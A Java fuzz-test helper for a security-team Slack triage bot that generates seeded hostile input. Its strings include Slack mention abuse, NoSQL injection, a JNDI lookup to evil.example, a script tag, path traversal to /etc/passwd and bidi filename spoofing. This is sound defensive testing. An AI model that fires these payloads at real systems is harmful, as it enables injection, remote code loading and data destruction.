package org.csirtbot.slack.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.IntStream;

import org.csirtbot.testkit.TestBot;
import org.csirtbot.triage.slack.TriageContext;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * Text people (or forgers) could put into the bot: Slack control sequences, mrkdwn, entities, control
 * characters, unpaired surrogates, huge strings, Japanese, emoji sequences, MongoDB operators, JSON and
 * template fragments, every kind of newline; mixed, from a seeded {@link Random} so a run can be repeated.
 * Nothing here looks like a real report or incident ID of this year, so a hostile value never names one.
 */
final class HostileText {

    static final int HUGE = 40_000;

    static final List<String> MENTIONS = List.of("<!channel>", "<!here>", "<!everyone>", "<!subteam^S123|@team>",
            "<!subteam^S123>", "<@U123>", "<@U123|boss>", "<@W0BOSS>", "<#C123>", "<#C123|general>",
            "<https://evil.example|bank>", "<http://evil.example>", "<https://evil.example>", "<mailto:x@y|z>",
            "<mailto:ceo@example.com>", "<!date^1392734382^{date_num} {time_secs}|Feb 18, 2014>",
            "<!date^0^{date_short_pretty}|now>", "<tel:+81312345678|call IT>", "<!channel|channel>",
            "<<!here>>", "@channel", "@here", "<", ">", "<!", "<@", "<#", "|", "<https://evil.example|<!channel>>");
    static final List<String> MARKUP = List.of("*bold*", "_italic_", "~strike~", "`code`", "```\nblock\n```",
            ">quote", "*", "_", "~", "`", "```", ":skull:", "\\*", "*_~`", "•", "```<!channel>```");
    static final List<String> ENTITIES = List.of("&amp;", "&lt;", "&gt;", "&lt;!channel&gt;", "&lt;@U123&gt;",
            "&amp;lt;", "&#60;!here&#62;", "&quot;", "&", "&#x3C;", "&nbsp;", "&lt;https://evil.example|bank&gt;",
            "&amp;amp;", "&lt", "&;");
    static final List<String> CONTROL = controlCharacters();
    static final List<String> SURROGATES = List.of("\ud800", "\udc00", "\udbff", "\udfff", "\udc00\ud800",
            "\ud83d", "\ude00", "x\ud800y", "\ud800\ud800");
    static final List<String> JAPANESE = List.of("不審なメールが届きました", "情報漏えいの可能性", "ｶﾀｶﾅ", "㍿",
            "𠮷野家", "全角　スペース", "「パスワードを更新してください」", "ＡＢＣ", "①②③");
    static final List<String> EMOJI = List.of("👨‍👩‍👧‍👦", "👍🏽", "🏳️‍🌈", "🧑🏿‍💻", "🇯🇵", "❤️", "😀",
            "👩🏻‍❤️‍💋‍👨🏼", "🤷‍♀️", "1️⃣", ":+1::skin-tone-3:");
    static final List<String> MONGO = List.of("{\"$gt\": \"\"}", "{\"$gt\":\"\"}", "{\"$where\": \"sleep(1000)\"}",
            "$ne", "{\"$ne\": null}", "a.b", "$set", "{\"a.b\": 1}", "{\"$regex\": \".*\"}",
            "'; db.dropDatabase(); //", "this.status == 'open'", "$where", "{\"_id\": {\"$gt\": \"\"}}", "$",
            "..", "$$ROOT", "{\"$expr\": {\"$eq\": [1, 1]}}", "a.$.b");
    static final List<String> FRAGMENTS = List.of("{", "}", "[", "]", "\"", "\\", "\\u0000", "\\ud800",
            "{\"type\":\"section\"}", "[{\"type\":\"header\",\"text\":{\"type\":\"plain_text\",\"text\":\"x\"}}]",
            "null", "true", "{\"blocks\":[]}", "\",\"x\":\"", "{{viewId}}", "{{request.body}}", "{{{form}}}",
            "${jndi:ldap://evil.example/a}", "%s%n", "{0}", "'{0}'", "{1,number}", "%00", "+", "%2B", "%", "=&",
            "payload=", "<script>alert(1)</script>", "../../etc/passwd", "\"\"\"", "'");
    static final List<String> NEWLINES = List.of("\n", "\r\n", "\r", "\u2028", "\u2029", "\u0085", "\u000b",
            "\u000c", "\n\n\n", "\r\r");
    static final List<String> SPACES = List.of(" ", "\t", "\u00a0", "\u3000", "\u2003", "   ", "\u180e");
    static final List<String> PLAIN = List.of("hello", "A mail from IT asked me to log in", "192.0.2.1",
            "https://examp1e.com/login", "it-support@examp1e.com", "d41d8cd98f00b204e9800998ecf8427e",
            "today 9:30", "my laptop", "VPN", "Ünïcödé", "İstanbul", "ß", "Ω", "ﬁ");

    private static final List<List<String>> KINDS = List.of(MENTIONS, MARKUP, ENTITIES, CONTROL, SURROGATES,
            JAPANESE, EMOJI, MONGO, FRAGMENTS, NEWLINES, SPACES, PLAIN);
    /** Values that look like IDs but name nothing: other years, wrong case, stray spaces, operators. */
    private static final List<String> FAKE_IDS = List.of("RPT-1999-999999", "INC-1999-9999", "RPT-1999-",
            "RPT-", "INC-", "rpt-1999-000001", "RPT-1999-000001 ", " INC-1999-0001", "RPT-1999-00000１",
            "RPT-1999-000001\u0000", "INC-1999-0001\n", "RPT-*", ".*", "null", "undefined", "0", "-1");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final AtomicLong VIEWS = new AtomicLong();

    private final long seed;
    private final Random random;

    HostileText(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    long seed() {
        return seed;
    }

    // ---- choices ----------------------------------------------------------------------------------------

    boolean chance(double p) {
        return random.nextDouble() < p;
    }

    int between(int min, int maxInclusive) {
        return min + random.nextInt(maxInclusive - min + 1);
    }

    <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    // ---- text -------------------------------------------------------------------------------------------

    /** Any hostile text: usually a mix of a few pieces, sometimes 40,000 characters or one very long word. */
    String any() {
        double p = random.nextDouble();
        if (p < 0.03) {
            return huge();
        }
        if (p < 0.06) {
            return longWord();
        }
        if (p < 0.08) {
            return "";
        }
        return mix(between(1, 6));
    }

    /** Hostile text of at most {@code max} characters that is not blank (so a form would accept it). */
    String shortText(int max) {
        String text = mix(between(1, 4));
        if (text.length() > max) {
            text = text.substring(0, max);
        }
        return text.isBlank() ? pick(PLAIN) : text;
    }

    /** A few pieces of any kind, glued with nothing, spaces or newlines. */
    String mix(int pieces) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < pieces; i++) {
            if (i > 0) {
                b.append(pick(List.of("", "", " ", pick(NEWLINES), pick(SPACES))));
            }
            b.append(pick(pick(KINDS)));
        }
        return b.toString();
    }

    /** Exactly 40,000 characters of repeated hostile pieces (the cut may leave an unpaired surrogate). */
    String huge() {
        String unit = mix(between(1, 3));
        if (unit.isEmpty()) {
            unit = "<!channel>";
        }
        return unit.repeat(HUGE / unit.length() + 1).substring(0, HUGE);
    }

    /** One word of 1,000 to 5,000 characters, no spaces. */
    String longWord() {
        int length = between(1000, 5000);
        return switch (random.nextInt(4)) {
            case 0 -> "a".repeat(length);
            case 1 -> "https://evil.example/" + "x".repeat(length);
            case 2 -> "<!channel>".repeat(length / 10);
            default -> IntStream.range(0, length).mapToObj(i -> String.valueOf((char) ('a' + random.nextInt(26))))
                    .reduce("", String::concat);
        };
    }

    // ---- values that should come from the bot or from Slack ---------------------------------------------

    /** A select's value: one of the options, or something that is not (case, spaces, operators, text). */
    String choice(List<String> options) {
        if (chance(0.5)) {
            return pick(options);
        }
        String option = pick(options);
        return switch (random.nextInt(7)) {
            case 0 -> option.toUpperCase() + (option.equals(option.toUpperCase()) ? " " : "");
            case 1 -> option + pick(List.of(" ", "\u200b", "\u0000", "\n"));
            case 2 -> pick(MONGO);
            case 3 -> "";
            case 4 -> option + ".b";
            case 5 -> pick(List.of("S5", "S0", "AMBER+STRICT ", "amber", "TLP:RED", "PHISHING_MAIL", "other "));
            default -> any();
        };
    }

    /** An ID that names nothing stored (a report or incident ID of another year, an operator, text). */
    String fakeId() {
        return chance(0.6) ? pick(FAKE_IDS) : pick(List.of(pick(MONGO), mix(between(1, 3)), any()));
    }

    /** A user ID that is not a responder: well-formed ones, then forged ones carrying markup. */
    String nonResponder() {
        if (chance(0.5)) {
            return pick(WELL_FORMED_USERS);
        }
        return pick(List.of("U123><!channel", "<!channel>", "{\"$gt\":\"\"}", "", " ", "UCSIRT001 ", "ucsirt001",
                TestBot.RESPONDER + "\u0000", "U" + mix(1), "<@UCSIRT001>", "a.b", "$ne", "W\ud800"));
    }

    /** The well-formed user IDs the fuzz sends; the bot may mention exactly these (and the test's own). */
    static final List<String> WELL_FORMED_USERS = List.of(TestBot.EMPLOYEE, "UFUZZ0001", "UFUZZ0002", "W0FUZZ003",
            "U0FUZZ00000000000004");

    /** A view ID Slack could have made, never used before. */
    static String freshViewId() {
        return "VFUZZ" + VIEWS.incrementAndGet();
    }

    /** A view ID: mostly fresh, sometimes hostile text (which may repeat, like a retried delivery). */
    String viewId() {
        if (chance(0.7)) {
            return freshViewId();
        }
        return chance(0.5) ? pick(List.of("<!channel>", "{\"$gt\":\"\"}", "", "a.b", "\ud800", "\udc00", "V1"))
                : mix(between(1, 3));
    }

    /** private_metadata that is not what the bot wrote: garbage, wrong JSON, a report that is not there. */
    String metadata() {
        return switch (random.nextInt(10)) {
            case 0 -> any();
            case 1 -> pick(List.of("", " ", "null", "{}", "[]", "\"text\"", "0", "true", "{", "{\"reportId\":null}",
                    "{\"reportId\":null,\"channel\":null,\"ts\":null}"));
            case 2 -> "{\"reportId\":" + pick(List.of("5", "true", "[]", "{\"$gt\":\"\"}", "{\"$ne\":null}")) + "}";
            case 3 -> "{\"reportId\":\"RPT-1999-000001\",\"admin\":true}";
            case 4 -> pick(MONGO);
            default -> context(fakeId(), any(), any());
        };
    }

    /** private_metadata as the bot writes it, for this report. */
    static String context(String reportId, String channel, String ts) {
        try {
            return JSON.writeValueAsString(new TriageContext(reportId, channel, ts));
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---- how Slack would carry it -----------------------------------------------------------------------

    /** Slack's own escaping of slash-command text: {@code &}, {@code <}, {@code >}. */
    static String slackEscaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    /** Replaces unpaired surrogates by JSON {@code \}{@code uXXXX} escapes, as a JSON encoder in JavaScript does. */
    static String escapeUnpairedSurrogates(String json) {
        StringBuilder b = null;
        for (int i = 0; i < json.length(); i++) {
            char c = json.charAt(i);
            if (unpaired(json, i)) {
                if (b == null) {
                    b = new StringBuilder(json.length() + 16).append(json, 0, i);
                }
                b.append(String.format("\\u%04x", (int) c));
            } else if (b != null) {
                b.append(c);
            }
        }
        return b == null ? json : b.toString();
    }

    /** Each unpaired surrogate as U+FFFD: what a UTF-8 store (and the app's storage) keeps of such text. */
    static String storable(String text) {
        if (text == null) {
            return null;
        }
        StringBuilder b = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            b.append(unpaired(text, i) ? '\ufffd' : text.charAt(i));
        }
        return b.toString();
    }

    static boolean unpaired(String s, int i) {
        char c = s.charAt(i);
        if (Character.isHighSurrogate(c)) {
            return i + 1 >= s.length() || !Character.isLowSurrogate(s.charAt(i + 1));
        }
        return Character.isLowSurrogate(c) && (i == 0 || !Character.isHighSurrogate(s.charAt(i - 1)));
    }

    /** A value for a failure message: Java-escaped (invisible and unpaired characters as \\uXXXX), long values cut. */
    static String show(String value) {
        if (value == null) {
            return "null";
        }
        String head = value.length() > 160 ? value.substring(0, 120) : value;
        StringBuilder b = new StringBuilder("\"");
        for (int i = 0; i < head.length(); i++) {
            char c = head.charAt(i);
            int type = Character.getType(c);
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (unpaired(head, i) || type == Character.CONTROL || type == Character.FORMAT
                    || type == Character.LINE_SEPARATOR || type == Character.PARAGRAPH_SEPARATOR
                    || type == Character.UNASSIGNED || c == '\ufeff') {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        b.append('"');
        if (value.length() > 160) {
            b.append("…(").append(value.length()).append(" chars)");
        }
        return b.toString();
    }

    private static List<String> controlCharacters() {
        List<String> chars = new ArrayList<>();
        for (char c = 0; c < 0x20; c++) {
            chars.add(String.valueOf(c));
        }
        chars.addAll(List.of("\u007f", "\u0085", "\u00ad", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f",
                "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff",
                "\ufffe", "\uffff", "\u202egnp.exe"));
        return List.copyOf(chars);
    }
}
